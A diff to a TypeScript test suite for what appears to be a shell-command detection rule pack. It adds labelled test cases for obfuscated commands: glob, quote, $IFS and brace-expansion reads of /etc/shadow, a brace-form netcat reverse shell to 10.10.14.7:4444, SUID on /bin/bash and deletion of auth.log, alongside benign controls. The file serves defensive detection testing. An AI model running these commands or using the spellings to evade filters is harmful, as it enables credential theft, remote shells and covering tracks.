@@ -153,19 +153,24 @@ describe('built-in packs on commands run through a container CLI\'s exec', () =>
   });
 });
 
-// Path spellings (MITRE T1027.010, the PayloadsAllTheThings wildcard bypasses), written before the lexer read them:
-// of 18 reads of /etc/shadow then 12 were caught. `cat //etc//shadow`, `/etc/sh?dow`, `/e*c/shad*` and `sha[d]ow` are
-// now; `cd /etc && cat shadow` and brace expansion `/etc/{shadow,passwd}` are still not (README, "What the lexer
-// does not read").
+// Path spellings (MITRE T1027.010, the PayloadsAllTheThings wildcard and brace bypasses), written before the lexer
+// read them: of 18 reads of /etc/shadow then 12 were caught, of 7 brace spellings none. `cat //etc//shadow`,
+// `/etc/sh?dow`, `/e*c/shad*`, `sha[d]ow` and the braces are now; `cd /etc && cat shadow` is still not (README,
+// "What the lexer does not read"). `cp /etc/sudoers{,.bak}` alerts, as `cp /etc/sudoers /etc/sudoers.bak` does.
 const SPELLED: CorpusLine[] = [
   ...['cat /etc/sh?dow', 'cat /e*c/shad*', 'cat //etc//shadow', 'cat /etc/sha[d]ow', 'cat /etc/../etc/shadow', 'cat /etc/./shadow', "c'a't /etc/shadow", 'cat /etc/sha\'\'dow', 'a=cat; $a /etc/shadow', 'cat${IFS}/etc/shadow', '/???/c?t /etc/shadow'].map(
     (command) => ({ command, category: 'credential_access', label: 'dangerous' as const }),
   ),
-  ...['cat /etc/passwd', 'ls -l /etc/shadow', 'tar czf etc.tgz /etc/*', 'ls /etc/sh*', 'chmod 640 /etc/sh?dow'].map((command) => ({ command, category: 'credential_access', label: 'benign' as const })),
+  ...['{cat,/etc/shadow}', 'cat /etc/{shadow,passwd}', 'cat /etc/sh{a,}dow', 'cp /etc/{shadow,passwd} /tmp/'].map((command) => ({ command, category: 'credential_access', label: 'dangerous' as const })),
+  { command: '{nc,-e,/bin/sh,10.10.14.7,4444}', category: 'reverse_shell', label: 'dangerous' },
+  { command: '{chmod,u+s,/bin/bash}', category: 'privesc_suid', label: 'dangerous' },
+  { command: '{rm,-rf,/var/log/auth.log}', category: 'log_wiping', label: 'dangerous' },
+  ...['cat /etc/passwd', 'ls -l /etc/shadow', 'tar czf etc.tgz /etc/*', 'ls /etc/sh*', 'chmod 640 /etc/sh?dow', 'chmod 640 /etc/{shadow,gshadow}'].map((command) => ({ command, category: 'credential_access', label: 'benign' as const })),
+  ...['mkdir -p /srv/app/{logs,tmp}', 'cp /etc/nginx/nginx.conf{,.bak}', 'cp /etc/ssh/sshd_config{,.orig}', 'touch /tmp/{a,b,c}.txt', 'ls -l /var/log/{syslog,auth.log}'].map((command) => ({ command, category: 'persistence_ssh_keys', label: 'benign' as const })),
 ];
 
-describe('built-in packs on sensitive paths spelled another way', () => {
-  it('read //, /./, /../ and globs in a path as the kernel and the shell do', () => {
+describe('built-in packs on sensitive paths and commands spelled another way', () => {
+  it('read //, /./, /../, globs and braces as the kernel and the shell do', () => {
     const s = scoreCorpus(rules, SPELLED);
     console.log(`${table('path spellings', s)}\n${detail(s)}`);
     expect({ missed: s.misses.map((m) => m.command), falseAlarms: s.falseAlarms.map((m) => m.command) }).toEqual({ missed: [], falseAlarms: [] });
